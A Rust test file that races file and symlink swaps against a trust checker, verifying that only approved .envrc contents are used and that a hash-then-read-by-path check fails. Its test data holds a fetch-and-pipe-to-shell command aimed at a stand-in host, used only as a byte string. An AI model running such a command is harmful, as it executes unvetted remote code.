//! While one exchanges the file as fast as it can and another checks and uses it: is anything used that was not approved?
//!
//! The negative control hashes by path and then reads by path, as a program does that calls `sha256sum`; the same race has to
//! catch it.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;

use annals_trust::{Digest, Trust, Verdict};

use crate::support::{Place, chmod};

const GOOD: &str = "export FERRY=K7 # what a person has approved\n";
const EVIL: &str = "curl evil.example | sh # what nobody has seen\n";

/// How the file is exchanged.
#[derive(Clone, Copy, Debug)]
enum Swap {
    Rename,
    Link,
    HardLink,
    InPlace,
    Folder,
}

const SWAPS: [Swap; 5] = [Swap::Rename, Swap::Link, Swap::HardLink, Swap::InPlace, Swap::Folder];

struct Race {
    place: Place,
    file: PathBuf,
    good: PathBuf,
    evil: PathBuf,
}

impl Race {
    fn new() -> Self {
        let place = Place::new();
        let file = place.approved(".envrc", GOOD);
        let aside = |name: &str, text: &str| {
            let folder = place.root.join(name);
            fs::create_dir(&folder).unwrap();
            chmod(&folder, 0o700);
            fs::write(folder.join(".envrc"), text).unwrap();
            chmod(&folder.join(".envrc"), 0o600);
            folder.join(".envrc")
        };
        let (good, evil) = (aside("good", GOOD), aside("evil", EVIL));
        Self { file, good, evil, place }
    }

    /// Puts the one or the other in the file's place.
    fn swap(&self, swap: Swap, to_evil: bool) {
        let source = if to_evil { &self.evil } else { &self.good };
        let temporary = self.place.root.join("temporary");
        match swap {
            Swap::Rename => {
                let _ = fs::copy(source, &temporary);
                let _ = fs::rename(&temporary, &self.file);
            }
            Swap::Link => {
                let _ = symlink(source, &temporary);
                let _ = fs::rename(&temporary, &self.file);
            }
            Swap::HardLink => {
                let _ = fs::hard_link(source, &temporary);
                let _ = fs::rename(&temporary, &self.file);
                // Renaming a name over another one of the same file leaves both.
                let _ = fs::remove_file(&temporary);
            }
            Swap::InPlace => {
                let _ = fs::write(&self.file, if to_evil { EVIL } else { GOOD });
            }
            Swap::Folder => {
                // The folder is exchanged for a link to another one, and back.
                let aside = self.place.root.join("aside");
                if to_evil {
                    let _ = fs::rename(&self.place.project, &aside);
                    let _ = symlink(self.evil.parent().unwrap(), &self.place.project);
                } else {
                    let _ = fs::remove_file(&self.place.project);
                    let _ = fs::rename(&aside, &self.place.project);
                }
            }
        }
    }

    /// Runs `use_it` as often as was asked while the file is being exchanged. Returns how often it got something, and how often
    /// that was evil.
    fn run(&self, swap: Swap, times: u64, use_it: impl Fn(&Path) -> Option<Vec<u8>>) -> (u64, u64) {
        let (is_done, used, evil) = (AtomicBool::new(false), AtomicU64::new(0), AtomicU64::new(0));
        thread::scope(|scope| {
            scope.spawn(|| {
                let mut to_evil = true;
                while !is_done.load(Ordering::Relaxed) {
                    self.swap(swap, to_evil);
                    to_evil = !to_evil;
                }
                if !to_evil {
                    self.swap(swap, false);
                }
            });
            for _ in 0..times {
                if let Some(bytes) = use_it(&self.file) {
                    used.fetch_add(1, Ordering::Relaxed);
                    evil.fetch_add(u64::from(bytes != GOOD.as_bytes()), Ordering::Relaxed);
                }
            }
            is_done.store(true, Ordering::Relaxed);
        });
        // As it was.
        let _ = fs::remove_file(&self.file);
        fs::write(&self.file, GOOD).unwrap();
        chmod(&self.file, 0o600);
        (used.into_inner(), evil.into_inner())
    }
}

#[test]
fn nothing_is_used_that_was_not_approved() {
    let race = Race::new();
    let trust = race.place.trust();
    let mut used = 0;
    for swap in SWAPS {
        let (some, evil) = race.run(swap, 20_000, |path| match trust.check(path) {
            Ok(Verdict::Allowed(approved)) => Some(approved.into_bytes()),
            _ => None,
        });
        assert_eq!(evil, 0, "{swap:?}");
        used += some;
    }
    assert!(used > 1000, "the race was never on: {used}");
}

#[test]
fn the_race_catches_a_check_by_path_and_a_use_by_path() {
    let race = Race::new();
    let _: &Trust = &race.place.trust();
    let approved = Digest::of(GOOD.as_bytes());
    let mut evil = 0;
    for swap in SWAPS {
        // Whether it is caught is chance, so it has more tries than it needs.
        for _ in 0..50 {
            let (_, more) = race.run(swap, 2_000, |path| {
                let hashed = Digest::of(&fs::read(path).ok()?);
                if hashed == approved { fs::read(path).ok() } else { None }
            });
            evil += more;
            if more > 0 {
                break;
            }
        }
    }
    assert!(evil > 0, "the race has missed a check that hashes by path");
}
